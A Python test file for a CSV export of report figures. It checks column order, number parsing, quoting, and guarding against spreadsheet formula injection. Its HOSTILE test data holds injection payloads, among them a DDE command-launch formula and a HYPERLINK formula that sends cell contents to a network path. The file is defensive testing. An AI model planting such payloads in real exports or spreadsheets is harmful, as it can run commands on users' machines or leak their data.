"""The CSV of the figures: all of them, as they are printed, and nothing that a spreadsheet carries out."""

from __future__ import annotations

import csv
import os
import shutil
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path
from typing import get_args
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from app.domain.address import Address
from app.domain.dataset import dataset
from app.domain.edition import Edition
from app.domain.fields import Head, from_fields
from app.domain.formulas import guarded, is_formula, unguarded
from app.domain.grid import Grid
from app.domain.manuscript import Manuscript, manuscript
from app.domain.shape import leaf_columns, leaf_rows
from app.domain.sheet_words import COLUMNS, KINDS
from app.domain.values import AnyKind
from app.files.copies import FINAL, Copy
from app.files.datasheet import write
from tests.files import libreoffice
from tests.files.printed import RENDERER, REPORTS
from tests.specimens import case, edition

HOSTILE = (
    "=1+1",
    '=HYPERLINK("//柳湾/"&A1,"看")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "\u200b=1+1",
    "'=1+1",
    "'只是引号",
    "=cmd|'/C calc'!A0",
    "甲\n=1+1",
    '甲",=1+1',
)


def lines(content: bytes) -> list[dict[str, str]]:
    """What the file says: its lines by the titles of their columns, as they were before they were guarded."""
    text = content.decode("utf-8-sig")
    assert not text.startswith("\ufeff")
    titles, *rows = csv.reader(StringIO(text, newline=""), strict=True)
    assert tuple(titles) == COLUMNS
    return [dict(zip(titles, map(unguarded, row), strict=True)) for row in rows]


def of_case(name: str) -> list[dict[str, str]]:
    return lines(write(manuscript(case(name)), FINAL, RENDERER))


def labelled(form: Edition) -> Iterator[tuple[str, tuple[str, str]]]:
    """The labels of the row and the column of each figure, by its address."""
    for section in form.sections:
        for block in form.blocks(section):
            for row in leaf_rows(block.rows):
                for column in leaf_columns(block.columns):
                    yield f"{section}.{row.id}.{column.id}", (row.label, column.label)


def village(**fields: str) -> Manuscript:
    """A report on the invented form with these fields, `__` for a point and `_slash_` for a slash."""
    made = {name.replace("__", "."): text for name, text in fields.items()}
    return manuscript(from_fields(edition("festival"), Head("柳湾村", 2016), made))


@pytest.mark.parametrize("name", REPORTS)
def test_every_figure_has_its_line_in_printed_order(name: str) -> None:
    report = case(name)
    found = of_case(name)
    figures, labels = report.edition.figures, dict(labelled(report.edition))
    assert [line["地址"] for line in found] == list(figures)
    assert [line["填报内容"] for line in found] == [report.written(address) for address in figures]
    for line, (address, figure) in zip(found, figures.items(), strict=True):
        number = report.numbers[address]
        assert (Decimal(line["数值"]) if line["数值"] else None) == number, address
        assert line["印入报告"] == ("是" if figure.printed else "否")
        assert (line["机关"], line["年度"]) == (report.agency, str(report.year))
        assert (line["行"].split(" > ")[-1], line["列"].split(" > ")[-1]) == labels[address]


def test_a_line_says_all_about_its_figure() -> None:
    found = {line["地址"]: tuple(line.values())[1:] for line in of_case("festival-balanced")}
    assert found["lanterns.given_elders.bamboo"] == (
        "乙、花灯去向",
        "",
        "去向 > 送出 > 村里 > 敬老院（八十岁以上的每人一盏）",
        "灯的做法 > 带骨架的 > 竹骨",
        *("1", "1", "盏", "整数", "填报", "是", "柳湾村", "2016", "festival"),
    )
    assert found["riddles.dusk.asked"][2:9] == ("夜场 > 头一场", "出题合计", "13", "13", "则", "整数", "计算")
    assert found["purse.emigrants.gifts"][:2] == ("丙、花费", "捐助")


def test_what_is_printed_and_what_it_is_as_a_number() -> None:
    found = {
        line["地址"]: (line["填报内容"], line["数值"], line["单位"], line["类型"], line["状态"])
        for line in lines(
            write(
                village(
                    purse__candles__planned="2429.9828 万元",
                    purse__candles__spent="１２．５０",
                    purse__candles__against="-3",
                    purse__music__against="三",
                    purse__music__planned="0",
                    purse__villagers__gifts="123456789012.123456",
                    purse__villagers__thanks="-5",
                ),
                FINAL,
                RENDERER,
            )
        )
    }
    assert found["purse.candles.planned"] == ("2429.9828万元", "24299828", "元", "金额", "填报")
    assert found["purse.candles.spent"] == ("12.50", "12.50", "元", "金额", "填报")
    assert found["purse.candles.against"] == ("-3", "-3", "笔", "可为负的整数", "填报")
    assert found["purse.music.against"] == ("三", "", "笔", "可为负的整数", "不是有效数字")
    assert found["purse.music.planned"] == ("0", "0", "元", "金额", "填报")
    assert found["purse.music.spent"] == ("", "", "元", "金额", "空白")
    assert found["purse.villagers.gifts"][:2] == ("123456789012.123456", "123456789012.123456")
    assert found["purse.villagers.thanks"] == ("-5", "", "", "文字", "填报")


def test_a_sum_beyond_what_can_be_typed_is_a_number() -> None:
    parts = {f"lanterns.crafted.{column}": "999999999" for column in ("paper", "bamboo", "wire")}
    script = manuscript(from_fields(edition("festival"), Head("柳湾村", 2016), parts))
    numbers = {datum.address: (datum.number, datum.state) for datum in dataset(script)}
    assert numbers[Address("lanterns.crafted.every")] == (Decimal(2999999997), "computed")


def test_it_is_csv_as_the_rfc_has_it() -> None:
    content = write(village(purse__villagers__thanks='甲，"乙"\n丙,丁'), FINAL, RENDERER)
    assert content.startswith("\ufeff地址,部分".encode())
    assert content.endswith(b"\r\n")
    assert '"甲，""乙""丙,丁"'.encode() in content  # what stands in a cell stands in one line
    assert content.count(b"\r\n") == len(edition("festival").figures) + 1
    assert content.count(b"\n") == content.count(b"\r\n")


def test_every_copy_is_the_same_file() -> None:
    script = manuscript(case("2021-half-finished"))
    copies = (FINAL, Copy(draft=True, numbered=True, annex=True), Copy(one_sided=True, fragment=True))
    assert len({write(script, copy, RENDERER) for copy in copies}) == 1


@given(st.text(st.sampled_from("=+-@＝＋－＠'\t\r\n \u200b1２a甲.,;\""), max_size=8) | st.text(max_size=8))
def test_no_field_can_be_taken_for_a_formula_and_none_is_changed_for_good(text: str) -> None:
    field = guarded(text)
    assert unguarded(field) == text
    if field.lstrip("\u200b\u200e\ufeff \u3000")[:1] in tuple("=+-@\t\r\n＝＋－＠"):
        float(field)  # only a number may begin so


@pytest.mark.parametrize("number", ["-3", "-0.5", "-123456789012.123456"])
def test_a_number_below_zero_is_no_formula(number: str) -> None:
    assert not is_formula(number)
    assert guarded(number) == number


def opened(content: bytes, folder: Path) -> bytes:
    """A CSV file as LibreOffice understands it, as XLSX. It has to be told that it is UTF-8."""
    (folder / "it.csv").write_bytes(content)
    command = [
        shutil.which("soffice") or "soffice",
        f"-env:UserInstallation={(folder / 'profile').as_uri()}",
        *("--headless", "--norestore", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx"),
        *("--outdir", str(folder), str(folder / "it.csv")),
    ]
    libreoffice._run(command, dict(os.environ))
    return (folder / "it.xlsx").read_bytes()


def test_libreoffice_shows_hostile_words_as_words(tmp_path: Path) -> None:
    addresses = [figure for figure in edition("festival").figures if not figure.startswith("farewell")]
    fields: dict[str, str | None] = dict(zip(addresses, HOSTILE, strict=False))
    fields["purse.candles.against"] = "-3"
    script = manuscript(from_fields(edition("festival"), Head("=柳湾村", 2016), fields))
    sheet = opened(write(script, FINAL, RENDERER), tmp_path)
    shown = CalamineWorkbook.from_filelike(BytesIO(sheet)).get_sheet_by_index(0).to_python()
    at = COLUMNS.index("填报内容")
    by_address = {str(row[0]).lstrip("\ufeff"): row for row in shown}
    for address, text in list(fields.items())[: len(HOSTILE)]:
        assert by_address[address][at] == guarded(script.written[Address(address)]), text
        assert by_address[address][COLUMNS.index("机关")] == "'=柳湾村"
    assert by_address["purse.candles.against"][at] == -3
    assert by_address["lanterns.kept_in.paper"][at] == "'=1+1"
    with ZipFile(BytesIO(sheet)) as archive:
        assert b"<f" not in archive.read("xl/worksheets/sheet1.xml")


def test_every_kind_of_value_has_a_name() -> None:
    kinds = get_args(get_args(AnyKind)[0])
    assert sorted(KINDS) == sorted(kind.model_fields["kind"].default for kind in kinds)


def test_words_and_figures_come_from_the_manuscript_alone() -> None:
    script = manuscript(case("festival-balanced"))
    other = replace(
        script,
        written={**script.written, Address("lanterns.kept_in.paper"): "77"},
        parts=tuple(replace(part, grids=tuple(map(shorter, part.grids))) for part in script.parts),
    )
    found = lines(write(other, FINAL, RENDERER))
    assert {line["地址"]: line["填报内容"] for line in found}["lanterns.kept_in.paper"] == "77"
    dropped = {datum.address for datum in dataset(script)} - {line["地址"] for line in found}
    assert "lanterns.kept_out.paper" in dropped


def shorter(grid: Grid) -> Grid:
    """The grid without its last row."""
    return replace(grid, body=grid.body[:-1]) if len(grid.body) > 1 else grid
